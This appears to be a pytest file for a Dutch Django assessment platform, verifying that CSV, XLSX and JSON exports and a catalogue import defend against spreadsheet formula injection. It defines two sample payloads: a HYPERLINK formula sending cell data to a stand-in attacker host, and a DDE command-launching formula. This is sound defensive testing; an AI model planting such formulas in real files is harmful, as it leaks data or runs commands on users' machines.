"""Finding 1: cells that a spreadsheet would run as a formula (CSV/XLSX injection)."""

import csv
import io
import json

import openpyxl
import pytest
import tablib

from assessments.models import Platform
from assessments.resources import COLUMNS, PlatformResource
from assessments.services import finding_add

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://aanvaller.example/?"&A1,"klik")'
CALC = "=cmd|' /C calc'!A0"


def rows(response) -> list[list[str]]:
    # Semicolons and a byte-order mark: what Dutch spreadsheet programs open directly.
    text = response.getvalue().decode().lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_own_finding_title_is_text_in_the_public_findings_csv(client, published, fw):
    finding_add(
        assessment=published,
        expected_version=None,
        criterion=fw["criteria"]["pw"],
        kind="kans",
        title=HYPERLINK,
        text="-2+3",
        motivation="m",
    )
    table = rows(client.get("/beoordelingen/bevindingen/export.csv"))
    header, *body = table
    row = dict(zip(header, body[0], strict=True))
    assert row["title"] == "'" + HYPERLINK
    assert row["explanation"] == "'-2+3"
    assert row["platform"] == "Klusplein"


def test_platform_name_is_text_in_the_overview_csv(client, published):
    Platform.objects.filter(pk=published.platform_id).update(name=CALC)
    header, *body = rows(client.get("/beoordelingen/overzicht/export.csv"))
    names = {dict(zip(header, line, strict=True))["platform"] for line in body}
    assert names == {"'" + CALC}


def test_json_exports_keep_the_value_unchanged(client, published):
    # JSON is not opened by spreadsheets as formulas; the value stays exact there.
    Platform.objects.filter(pk=published.platform_id).update(name=CALC)
    document = json.loads(client.get("/beoordelingen/overzicht/export.json").getvalue())
    assert [a["platform"] for a in document["assessments"]] == [CALC]


def test_admin_xlsx_export_writes_text_not_a_formula(db):
    Platform.objects.create(name=CALC, slug="calc", description="@SUM(1+1)")
    dataset = PlatformResource().export()
    workbook = openpyxl.load_workbook(io.BytesIO(dataset.export("xlsx")))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    values = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert values["name"] == "'" + CALC
    assert values["description"] == "'@SUM(1+1)"
    assert sheet.cell(row=2, column=header.index("name") + 1).data_type == "s"


def test_admin_csv_export_writes_text_not_a_formula(db):
    Platform.objects.create(name="+31 6 1234", slug="plus")
    exported = PlatformResource().export().export("csv")
    assert "'+31 6 1234" in exported


def test_catalogue_import_refuses_a_formula_as_name(db):
    data = tablib.Dataset(headers=COLUMNS)
    row = {"name": "=1+2", "website": "https://formule.example.nl", "status": "active"}
    data.append([row.get(column, "") for column in COLUMNS])
    result = PlatformResource().import_data(data)
    assert result.has_validation_errors()
    messages = [m for row in result.invalid_rows for ms in row.error_dict.values() for m in ms]
    assert messages == [
        "De waarde '=1+2' in kolom name begint met =, +, -, @ of een tab en zou in een "
        "spreadsheet een formule worden. Haal dat teken weg."
    ]
    assert Platform.objects.count() == 0
